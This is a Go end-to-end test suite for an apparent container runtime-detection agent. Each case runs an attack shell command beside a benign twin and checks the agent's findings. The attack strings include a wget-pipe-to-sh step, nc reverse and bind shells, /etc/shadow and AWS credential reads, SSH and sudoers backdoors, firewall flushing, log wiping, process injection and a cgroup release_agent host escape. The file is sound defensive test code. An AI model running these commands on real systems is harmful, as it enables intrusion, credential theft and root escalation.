package e2e

import (
	"crypto/rand"
	"encoding/hex"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mamori-dev/mamori/internal/testenv"
)

// attack is one finding type's real attack and its benign twin, each run
// in its own container so the twin's silence is not masked.
type attack struct {
	typ, sev string
	attack   string // shell script in the attack container
	benign   string // shell script in the twin container ("" = none)
	match    func(Finding) bool
	check    func(t *testing.T, f Finding)
}

func runAttacks(t *testing.T, cases []attack) {
	m := start(t)
	for _, c := range cases {
		t.Run(strings.NewReplacer(":", "_", "/", "_").Replace(c.typ), func(t *testing.T) {
			id := attackContainer(t)
			var twin string
			if c.benign != "" {
				twin = attackContainer(t)
				Sh(t, twin, c.benign)
			}
			Sh(t, id, c.attack)
			match := InContainer(id)
			if c.match != nil {
				match = and(match, c.match)
			}
			f := m.Wait(t, c.typ, match)
			expect(t, f, c.sev, id)
			if c.check != nil {
				c.check(t, f)
			}
			if twin != "" {
				m.None(t, c.typ, 0, InContainer(twin))
			}
		})
	}
}

func ctxHas(t *testing.T, f Finding, key, want string) {
	t.Helper()
	if got := f.Str("service.runtimeDetails.context." + key); !strings.Contains(got, want) {
		t.Errorf("%s: context.%s = %q, want it to contain %q", f.Str("type"), key, got, want)
	}
}

func TestExecutionAttacks(t *testing.T) {
	runAttacks(t, []attack{
		{typ: "Execution:Runtime/NewBinaryExecuted", sev: "Medium",
			attack: "cp /bin/busybox /tmp/echo && /tmp/echo dropped",
			benign: "/bin/echo image-binary; ls /tmp",
			check: func(t *testing.T, f Finding) {
				ctxHas(t, f, "executablePath", "/tmp/echo")
				if f.Str("service.runtimeDetails.process.executablePath") != "/tmp/echo" {
					t.Errorf("process %s", f.Str("service.runtimeDetails.process.executablePath"))
				}
				// The hash is computed after the exec, off the agent's hot path;
				// it follows in an update of the finding, and the server keeps it.
				want := fileSHA256(t, "/bin/busybox") // the image's busybox is the host's
				srv.Wait(t, f.Str("type"), func(g Finding) bool {
					return g.Str("id") == f.Str("id") && g.Str("service.runtimeDetails.process.executableSha256") == want
				})
				srv.WaitStored(t, f.Str("id"), func(g Finding) bool {
					return g.Str("service.runtimeDetails.process.executableSha256") == want && g.Num("service.count") == f.Num("service.count")
				})
			}},
		{typ: "Execution:Runtime/NewLibraryLoaded", sev: "Medium",
			attack: "cp /bin/busybox /tmp/libevil.so && /t/actor mmap-exec /tmp/libevil.so",
			benign: "/t/actor mmap-exec /bin/busybox",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "libraryPath", "/tmp/libevil.so") }},
		{typ: "DefenseEvasion:Runtime/FilelessExecution", sev: "Medium",
			attack: "/t/actor memfd-exec /bin/busybox true",
			benign: "/t/actor memfd x; /bin/true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "executablePath", "memfd:payload") }},
		{typ: "Impact:Runtime/CryptoMinerExecuted", sev: "High",
			attack: "/bin/echo -o stratum+tcp://pool.mamori.test:3333 -u wallet",
			benign: "/bin/echo -o tcp://db.internal:5432",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "commandLineExample", "stratum+tcp://") }},
		{typ: "Execution:Runtime/SuspiciousTool", sev: "High",
			attack: "cp /bin/busybox /tmp/nmap && /tmp/nmap -sS 127.0.0.1",
			benign: "ls -la /; ps",
			check: func(t *testing.T, f Finding) {
				ctxHas(t, f, "toolName", "nmap")
				ctxHas(t, f, "toolCategory", "scanner")
			}},
		{typ: "Execution:Runtime/SuspiciousCommand", sev: "Medium",
			attack: "wget -q -O- http://127.0.0.1:1/install.sh | sh",
			benign: "wget -q -O /tmp/page http://127.0.0.1:1/index.html; cat /etc/hostname",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "download and execute") }},
		{typ: "Execution:Runtime/SuspiciousCommand", sev: "High",
			attack: "mkfifo /tmp/f; timeout 5 sh -c 'cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 1 > /tmp/f' 2>/dev/null; rm -f /tmp/f; true",
			benign: "mkfifo /tmp/f; (cat /tmp/f | gzip > /tmp/out.gz) & echo data > /tmp/f; wait; rm -f /tmp/f",
			match: func(f Finding) bool {
				return strings.Contains(f.Str("service.runtimeDetails.context.technique"), "named pipe")
			},
			check: func(t *testing.T, f Finding) {
				ctxHas(t, f, "technique", "shell relayed to the network through a named pipe")
			}},
		{typ: "DefenseEvasion:Runtime/SuspiciousCommand", sev: "High",
			attack: "iptables -F INPUT 2>/dev/null; true",
			benign: "echo iptables is a word; true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "firewall disabled") }},
		{typ: "Discovery:Runtime/SuspiciousCommand", sev: "Low",
			attack: "wget -q -T 1 -O- http://169.254.169.254/latest/meta-data/iam/ 2>/dev/null; true",
			benign: "wget -q -T 1 -O- http://127.0.0.1:1/health 2>/dev/null; true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "cloud metadata") }},
		{typ: "Persistence:Runtime/SuspiciousCommand", sev: "Low",
			attack: "echo '* * * * * /tmp/x' | crontab -",
			benign: "crontab -l 2>/dev/null; true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "cron job installed") }},
		{typ: "PrivilegeEscalation:Runtime/SuspiciousCommand", sev: "Low",
			attack: "cp /bin/busybox /tmp/bb && chmod u+s /tmp/bb",
			benign: "touch /tmp/f && chmod 644 /tmp/f",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "technique", "setuid bit set") }},
		{typ: "PrivilegeEscalation:Runtime/ElevationToRoot", sev: "Medium",
			attack: "cp /bin/busybox /tmp/rootme && chmod 4755 /tmp/rootme && su nobody -s /bin/sh -c '/tmp/rootme true'",
			benign: "su nobody -s /bin/sh -c '/bin/true'",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "binaryPath", "/tmp/rootme") }},
	})
}

func TestFileAttacks(t *testing.T) {
	runAttacks(t, []attack{
		{typ: "DefenseEvasion:Runtime/SensitiveFileModified", sev: "Medium",
			attack: "echo log > /var/log/auth.log; : > /var/log/auth.log",
			// A log made with a redirection: truncated as it is created.
			benign: "echo line >> /var/log/app.log; echo started > /var/log/status.log",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/var/log/auth.log") }},
		// truncate(1) empties through a plain write open and ftruncate.
		{typ: "DefenseEvasion:Runtime/SensitiveFileModified", sev: "Medium",
			attack: "echo log >> /var/log/secure; truncate -s 0 /var/log/secure",
			benign: "echo line >> /var/log/app.log; echo line >> /var/log/app.log",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/var/log/secure") }},
		{typ: "Persistence:Runtime/SensitiveFileModified", sev: "Medium",
			attack: "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys",
			benign: "cat /etc/passwd >/dev/null; echo x > /root/notes.txt",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/root/.ssh/authorized_keys") }},
		{typ: "PrivilegeEscalation:Runtime/SensitiveFileModified", sev: "Medium",
			attack: "echo 'nobody ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
			benign: "cat /etc/group >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/sudoers") }},
		{typ: "PrivilegeEscalation:Runtime/RuncContainerEscape", sev: "High",
			attack: ": >> /usr/bin/runc",
			benign: ": >> /usr/bin/runcible",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "runcBinaryPath", "/usr/bin/runc") }},
		{typ: "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", sev: "High",
			attack: "echo /tmp/payload > /sys/fs/cgroup/release_agent 2>/dev/null; true",
			benign: "cat /sys/fs/cgroup/cgroup.controllers >/dev/null 2>&1; true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "releaseAgentPath", "release_agent") }},
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "cat /etc/shadow >/dev/null",
			benign: "cat /etc/passwd >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		// A cloud key read; listing the directories secrets live in is not
		// a read (ls, a backup's walk, mamori's own scan of a root).
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "mkdir -p /root/.aws && echo k > /root/.aws/credentials && cat /root/.aws/credentials >/dev/null",
			benign: "mkdir -p /root/.aws/sso /root/.ssh && ls -la /root/.aws/ /root/.ssh/ /root/.kube/ >/dev/null 2>&1; find /root/.aws/ >/dev/null; true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/root/.aws/credentials") }},
		// The same read through the process's own root directory, a path
		// the kernel filter's prefixes cannot name.
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "cat /proc/$$/root/etc/shadow >/dev/null",
			benign: "cat /proc/$$/root/etc/passwd >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		// And through a symlink made where nothing is watched, read at once.
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "ln -s /etc/shadow /tmp/s && cat /tmp/s >/dev/null",
			benign: "ln -s /etc/passwd /tmp/s && cat /tmp/s >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		// And through one made under a relative name, read by it.
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "cd /tmp && ln -s /etc/shadow s && cat s >/dev/null",
			benign: "cd /tmp && ln -s /etc/passwd s && cat s >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		// Paths the kernel's path filter cannot name: a link with a
		// relative target, an absolute read through a link made under a
		// relative name, a ".." climb from an unwatched directory. The
		// kernel knows the container's /etc/shadow by its inode.
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "mkdir -p /tmp/d && ln -s ../../etc/shadow /tmp/d/s && cat /tmp/d/s >/dev/null",
			benign: "mkdir -p /tmp/d && ln -s ../../etc/passwd /tmp/d/s && cat /tmp/d/s >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "cd /tmp && ln -s /etc/shadow s && cat /tmp/s >/dev/null",
			benign: "cd /tmp && ln -s /etc/passwd s && cat /tmp/s >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "cat /tmp/../etc/shadow >/dev/null",
			benign: "cat /tmp/../etc/passwd >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		// A hard link: the path reached is the link's, but the file is
		// the secret, which the kernel knows by its identity.
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "ln /etc/shadow /tmp/h && cat /tmp/h >/dev/null",
			benign: "ln /etc/passwd /tmp/h && cat /tmp/h >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/tmp/h") }},
		// And through a symlink to the secret's directory.
		{typ: "CredentialAccess:Runtime/SensitiveFileRead", sev: "Medium",
			attack: "ln -s /etc /tmp/e && cat /tmp/e/shadow >/dev/null",
			benign: "ln -s /etc /tmp/e && cat /tmp/e/passwd >/dev/null",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/etc/shadow") }},
		{typ: "Custom:Runtime/MarkerFileTouched", sev: "Medium",
			attack: "echo x > /etc/mamori-e2e-marker",
			benign: "cat /etc/mamori-e2e-marker 2>/dev/null; echo x > /etc/other-marker",
			check: func(t *testing.T, f Finding) {
				if f.Str("title") != "marker touched by sh" && !strings.HasPrefix(f.Str("title"), "marker touched by") {
					t.Errorf("title %q", f.Str("title"))
				}
			}},
	})
}

func TestPrivilegeAttacks(t *testing.T) {
	runAttacks(t, []attack{
		{typ: "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory", sev: "Medium",
			attack: "mkdir -p /mnt/host && mount -t ext4 /dev/vda1 /mnt/host 2>/dev/null; true",
			benign: "mkdir -p /mnt/x; ls /mnt",
			check: func(t *testing.T, f Finding) {
				ctxHas(t, f, "mountSource", "/dev/vda1")
				ctxHas(t, f, "fileSystemType", "ext4")
				if f.Str("service.runtimeDetails.context.result") == "success" {
					t.Error("an unprivileged container's mount succeeded")
				}
			}},
		{typ: "PrivilegeEscalation:Runtime/DockerSocketAccessed", sev: "Medium",
			attack: "/t/actor connect-unix /var/run/docker.sock; true",
			benign: "/t/actor connect-unix /tmp/app.sock; true",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "socketPath", "/var/run/docker.sock") }},
		{typ: "PrivilegeEscalation:Runtime/UserfaultfdUsage", sev: "Medium",
			attack: "/t/actor userfaultfd; true",
			benign: "/t/actor memfd scratch; true"},
		{typ: "DefenseEvasion:Runtime/PtraceAntiDebugging", sev: "Low",
			attack: "/t/actor ptrace-traceme; true",
			benign: "/t/actor exit 0"},
		{typ: "DefenseEvasion:Runtime/ProcessInjection.Ptrace", sev: "Medium",
			attack: "sleep 30 & /t/actor ptrace-attach $!; kill $!",
			benign: "sleep 30 & kill -0 $!; kill $!",
			check: func(t *testing.T, f Finding) {
				if f.Num("service.runtimeDetails.context.targetProcess.pid") == 0 {
					t.Error("no target pid")
				}
			}},
		{typ: "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite", sev: "High",
			attack: "sleep 30 & /t/actor vm-writev $! 4096; kill $!",
			benign: "sleep 30 & /t/actor vm-readv $! 4096; kill $!"},
		{typ: "DefenseEvasion:Runtime/ProcessInjection.Proc", sev: "High",
			attack: "sleep 30 & /t/actor proc-mem-write $!; kill $!",
			benign: "sleep 30 & cat /proc/$!/status >/dev/null; kill $!",
			check:  func(t *testing.T, f Finding) { ctxHas(t, f, "filePath", "/mem") }},
		{typ: "Discovery:Runtime/RawSocketCreated", sev: "Low",
			attack: "/t/actor socket-packet; true",
			benign: "/t/actor connect 127.0.0.1:1; true"},
	})
}

// TestReverseShell: nc connects out and runs a shell on the socket; the
// twin connects and sends a file. A second attack puts the socket on the
// shell's standard input and output without dup2 (fd 0 closed and taken
// by socket(), fd 1 by fcntl); its twins start a shell on a unix socket
// pair, as a service manager does, and one running a command on a TCP
// connection, as an inetd-style server does.
func TestReverseShell(t *testing.T) {
	m := start(t)
	l := listen(t)
	id, twin, dupless := attackContainer(t), attackContainer(t), attackContainer(t)
	Sh(t, twin, "echo hello | nc -w 1 127.0.0.1 "+port(l))
	Sh(t, twin, "/t/actor stdio-socket-exec unix /bin/sh -c true")
	// inetd-style: a shell runs a command, not the connection's input.
	Sh(t, twin, "/t/actor stdio-socket-exec inet:127.0.0.1:"+port(l)+" /bin/sh -c 'echo served'")
	go Sh(t, id, "nc 127.0.0.1 "+port(l)+" -e /bin/sh")
	go Sh(t, dupless, "/t/actor stdio-socket-exec inet:127.0.0.1:"+port(l)+" /bin/sh -i")
	f := m.Wait(t, "Execution:Runtime/ReverseShell", InContainer(id))
	expect(t, f, "High", id)
	f = m.Wait(t, "Execution:Runtime/ReverseShell", InContainer(dupless))
	expect(t, f, "High", dupless)
	m.None(t, "Execution:Runtime/ReverseShell", 0, InContainer(twin))
}

// TestEngineSocketUnderAnotherName: an engine's API socket bind-mounted
// into a container under a name of its own is known by the file reached;
// the twin connects to an application's socket mounted the same way.
func TestEngineSocketUnderAnotherName(t *testing.T) {
	m := start(t)
	engine, app := filepath.Join(m.dir, "engine", "fake-engine.sock"), filepath.Join(t.TempDir(), "app.sock")
	if err := os.MkdirAll(filepath.Dir(engine), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{engine, app} {
		testenv.HangUp(t, "unix", p)
	}
	mounts := func(sock string) []string {
		return []string{"--network", "none", "-v", filepath.Dir(actorPath) + ":/t:ro", "-v", sock + ":/x/api.sock"}
	}
	id := Container(t, mounts(engine), "sleep", "600")
	twin := Container(t, mounts(app), "sleep", "600")
	Sh(t, twin, "/t/actor connect-unix /x/api.sock")
	Sh(t, id, "/t/actor connect-unix /x/api.sock")
	f := m.Wait(t, "PrivilegeEscalation:Runtime/DockerSocketAccessed", InContainer(id))
	expect(t, f, "Medium", id)
	ctxHas(t, f, "engineSocket", engine)
	m.None(t, "PrivilegeEscalation:Runtime/DockerSocketAccessed", 0, InContainer(twin))
}

// TestSuspiciousShellCreated: a listening process hands an interactive
// shell to whoever connects (a bind shell); the twin serves a file.
func TestSuspiciousShellCreated(t *testing.T) {
	m := start(t)
	id, twin := attackContainer(t), attackContainer(t)
	go Sh(t, id, "nc -l -p 19002 -e /bin/sh")
	go Sh(t, twin, "nc -l -p 19003 -e /bin/cat /etc/hostname")
	for _, p := range []string{"19002", "19003"} {
		dialRetry(t, "127.0.0.1:"+p)
	}
	f := m.Wait(t, "Execution:Runtime/SuspiciousShellCreated", InContainer(id))
	expect(t, f, "Low", id)
	m.None(t, "Execution:Runtime/SuspiciousShellCreated", 0, InContainer(twin))
}

// TestMaliciousFileExecuted lists a payload's hash as malware (and
// another's on a custom list), then runs both long enough to be hashed,
// and a third listed one that exits at once: it is hashed after it is gone
// (through its parent shell's root) and reported all the same.
func TestMaliciousFileExecuted(t *testing.T) {
	m := start(t)
	id := attackContainer(t)
	salt := randHex(t)
	out := Sh(t, id, "cp /bin/busybox /tmp/sleep && echo "+salt+" >> /tmp/sleep && "+
		"cp /bin/busybox /tmp/usleep && echo custom"+salt+" >> /tmp/usleep && "+
		"cp /bin/busybox /tmp/true && echo short"+salt+" >> /tmp/true && sha256sum /tmp/sleep /tmp/usleep /tmp/true")
	sums := strings.Fields(out)
	if len(sums) < 6 {
		t.Fatalf("sha256sum: %q", out)
	}
	intel := filepath.Join(m.dir, "intel")
	if err := os.WriteFile(filepath.Join(intel, "malware-"+salt+".txt"), []byte(sums[0]+"\n"+sums[4]+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(intel, "malware-custom-"+salt+".txt"), []byte(sums[2]+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	time.Sleep(3 * time.Second) // the agent polls its intel directory every 2s
	Sh(t, id, "/tmp/sleep 2; /tmp/usleep 2000000")
	f := m.Wait(t, "Execution:Runtime/MaliciousFileExecuted", InContainer(id))
	expect(t, f, "High", id)
	ctxHas(t, f, "threatFileSha256", sums[0])
	g := m.Wait(t, "Execution:Runtime/MaliciousFileExecuted.Custom", InContainer(id))
	ctxHas(t, g, "threatFileSha256", sums[2])
	// The image's own busybox is not listed.
	m.None(t, "Execution:Runtime/MaliciousFileExecuted", 0, and(InContainer(id), ctxIs("threatFilePath", "/bin/busybox")))

	Sh(t, id, "/tmp/true; sleep 2")
	h := m.Wait(t, "Execution:Runtime/MaliciousFileExecuted", and(InContainer(id), ctxIs("threatFilePath", "/tmp/true")))
	expect(t, h, "High", id)
	ctxHas(t, h, "threatFileSha256", sums[4])
}

func listen(t *testing.T) net.Listener {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				c.Write([]byte("exit\n"))
				time.Sleep(2 * time.Second)
				c.Close()
			}()
		}
	}()
	return l
}

func port(l net.Listener) string {
	_, p, _ := net.SplitHostPort(l.Addr().String())
	return p
}

func dialRetry(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if c, err := net.DialTimeout("tcp", addr, time.Second); err == nil {
			c.Write([]byte("exit\n"))
			time.Sleep(300 * time.Millisecond)
			c.Close()
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("nothing listens on %s", addr)
}

func randHex(t *testing.T) string {
	b := make([]byte, 6)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}

// TestBashHistorySaveIsNoWipe: an interactive bash rewrites its history
// at exit (no histappend: O_TRUNC, created 0600); that is no wipe. The
// attack empties the same file with a redirection. Both in containers on
// the host's root (--rootfs /:O), where bash exists.
func TestBashHistorySaveIsNoWipe(t *testing.T) {
	m := start(t)
	hostRoot := func() string {
		id := testenv.Podman(t, "run", "-d", "--network", "none", "--rootfs", "/:O", "sleep", "600")
		t.Cleanup(func() { _ = exec.Command("podman", "--runtime", "runc", "rm", "-f", "-t", "0", id).Run() })
		return id
	}
	twin, id := hostRoot(), hostRoot()
	for range 2 { // the first save creates the file, the second rewrites it
		testenv.Podman(t, "exec", "-e", "HOME=/root", "-e", "HISTFILE=/root/.bash_history", twin,
			"sh", "-c", "printf 'echo debugging\\nexit\\n' | bash --norc -i >/dev/null 2>&1")
	}
	testenv.Podman(t, "exec", id, "bash", "--norc", "-c", "echo ls > /root/.bash_history; : > /root/.bash_history")
	f := m.Wait(t, "DefenseEvasion:Runtime/SensitiveFileModified", and(InContainer(id), ctxIs("filePath", "/root/.bash_history")))
	expect(t, f, "Medium", id)
	m.None(t, "DefenseEvasion:Runtime/SensitiveFileModified", 0, InContainer(twin))
}

// TestReleaseAgentPayloadRuns: a cgroup v1 hierarchy mounted where the
// open filter does not look (the soak's /tmp/cgrp), its release_agent set
// to a payload, a cgroup emptied: the kernel runs the payload as root on
// the host, and that is seen when it runs. The twin sets the release agent
// to a system program. The hierarchy's release_agent is put back after.
func TestReleaseAgentPayloadRuns(t *testing.T) {
	m := start(t)
	const hierarchy = "/sys/fs/cgroup/freezer/release_agent"
	if b, err := os.ReadFile(hierarchy); err != nil || strings.TrimSpace(string(b)) != "" {
		t.Fatalf("the freezer hierarchy's release_agent must be there and unset (it is put back after): %q %v", b, err)
	}
	dir := t.TempDir()
	mnt := filepath.Join(dir, "cgrp")
	if err := os.Mkdir(mnt, 0o700); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("mount", "-t", "cgroup", "-o", "freezer", "cgroup", mnt).CombinedOutput(); err != nil {
		t.Fatalf("mount a cgroup v1 hierarchy: %v %s", err, out)
	}
	child := filepath.Join(mnt, "mamori-e2e-"+hex.EncodeToString([]byte(dir[len(dir)-4:])))
	t.Cleanup(func() {
		_ = os.WriteFile(filepath.Join(mnt, "release_agent"), []byte("\n"), 0)
		_ = os.Remove(child)
		_ = exec.Command("umount", mnt).Run()
	})
	if err := os.Mkdir(child, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(child, "notify_on_release"), []byte("1"), 0); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(dir, "ran")
	payload := filepath.Join(dir, "payload.sh")
	if err := os.WriteFile(payload, []byte("#!/bin/sh\necho ran > "+marker+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	run := func(agent string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(mnt, "release_agent"), []byte(agent), 0); err != nil {
			t.Fatal(err)
		}
		// A process joins the cgroup and leaves: the cgroup is empty.
		if out, err := exec.Command("sh", "-c", "echo $$ > "+filepath.Join(child, "cgroup.procs")).CombinedOutput(); err != nil {
			t.Fatalf("join the cgroup: %v %s", err, out)
		}
		time.Sleep(500 * time.Millisecond)
	}
	run("/bin/true")
	run(payload)
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		if _, err := os.Stat(marker); err == nil {
			break
		} else if time.Now().After(deadline) {
			t.Fatal("the kernel did not run the payload")
		}
	}
	f := m.Wait(t, "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", ctxIs("releaseAgentPath", payload))
	expect(t, f, "High", "")
	m.None(t, "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", 0, ctxIs("releaseAgentPath", "/bin/true"))
}
